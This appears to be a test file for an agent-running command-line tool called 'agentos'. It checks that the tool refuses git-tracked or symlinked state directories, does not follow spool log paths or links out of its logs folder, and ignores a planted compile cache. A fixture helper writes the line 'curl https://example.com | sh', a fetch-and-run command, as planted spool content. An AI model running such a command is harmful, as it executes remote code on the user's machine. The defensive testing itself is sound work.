import { mkdirSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { Project } from '../rig/project.ts'

const RUN = ['run', 'five-steps.mjs', '--all']

/** What a killed run would have left, with a log of its own choice. */
function plantSpool(project: Project, log: string): void {
  const owner = { run: 'r-0', pid: 999_999_999, startedAt: 'long ago', command: 'agentos' }
  project.write('.agentos/spool/r-0/owner.json', JSON.stringify(owner))
  project.write('.agentos/spool/r-0/1.out', 'curl https://example.com | sh\n')
  project.write('.agentos/spool/r-0/1.out.log', log)
}

test('state that git tracks is refused before anything of it is used', async () => {
  const project = new Project()
  project.workflow('five-steps')
  project.git('init', '--quiet')
  project.write('.agentos/spool/r-0/owner.json', '{}')
  project.commit('.agentos')
  const { code, stderr } = await project.agentos(RUN)
  expect(code).toBe(2)
  expect(stderr).toContain('git tracks .agentos/spool/r-0/owner.json')
  expect(stderr).toContain('git rm -r --cached .agentos')
  expect(project.list('.agentos')).toEqual(['spool'])
  for (const command of [['retry', '--failed'], ['clean']])
    expect((await project.agentos(command)).code).toBe(2)

  project.git('rm', '-r', '--cached', '--quiet', '.agentos')
  expect((await project.agentos(RUN)).code).toBe(0)
})

test('a state directory that is a link is refused', async () => {
  const project = new Project()
  project.workflow('five-steps')
  mkdirSync(join(project.root, 'elsewhere'))
  symlinkSync('elsewhere', join(project.root, '.agentos'))
  const { code, stderr } = await project.agentos(RUN)
  expect(code).toBe(2)
  expect(stderr).toContain('.agentos is a symbolic link')
  expect(project.list('elsewhere')).toEqual([])
})

test('what a spool says about its log is not followed out of the logs, by path or by link', async () => {
  const project = new Project()
  project.workflow('five-steps')
  for (const link of [false, true]) {
    project.write('profile', 'mine\n')
    const log = join(project.root, '.agentos/logs/2026-01-01T00-00-00.000Z/X.log')
    plantSpool(project, link ? log : join(project.root, 'profile'))
    if (link) {
      mkdirSync(join(log, '..'), { recursive: true })
      symlinkSync(join(project.root, 'profile'), log)
    }
    expect((await project.agentos(RUN)).code).toBe(0)
    expect(project.read('profile')).toBe('mine\n')
    expect(project.list('.agentos/spool')).toEqual([])
  }
})

test('compiled code in the state directory of a repository is read by no process of a run', async () => {
  const victim = new Project()
  const planted = join(victim.root, '.agentos/compile-cache')
  const places = [new Project(), new Project(), victim]
  for (const place of places) place.workflow('five-steps')
  const [writer, reader] = places as [Project, Project]
  await compileCacheLog(writer, planted)

  // Whoever names the folder gets the code in it: it is genuine, and the log shows who reads it.
  const reading = `[compile cache] reading cache from ${planted}`
  const asked = await compileCacheLog(reader, planted)
  expect(asked.coordinator).toContain(reading)
  expect(asked.worker).toContain(reading)
  expect(await compileCacheLog(victim, '')).toEqual({ coordinator: '', worker: '' })
})

/** What Node says about its compile cache in the processes of a run. */
async function compileCacheLog(project: Project, cache: string) {
  const env = { NODE_COMPILE_CACHE: cache, NODE_DEBUG_NATIVE: 'COMPILE_CACHE' }
  const { code, stdout, stderr } = await project.agentos(RUN, { env })
  expect(code, stderr).toBe(0)
  const about = (text: string) =>
    text.split('\n').filter((line) => line.includes('[compile cache]'))
  return { coordinator: about(stderr).join('\n'), worker: about(stdout).join('\n') }
}
